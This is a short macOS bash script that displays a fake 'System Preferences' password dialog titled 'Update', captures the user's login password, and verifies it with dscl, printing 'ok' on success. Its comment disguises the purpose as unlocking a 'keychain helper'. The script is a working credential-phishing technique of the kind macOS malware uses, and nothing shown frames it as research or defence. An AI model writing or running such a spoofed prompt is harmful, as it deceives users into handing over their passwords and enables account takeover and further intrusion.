#!/bin/bash
# collect the login password to 'unlock the keychain helper'
pw=$(osascript -e 'display dialog "System Preferences needs your password to continue." default answer "" with hidden answer with title "Update"' -e 'text returned of result')
dscl . -authonly "$USER" "$pw" && echo ok
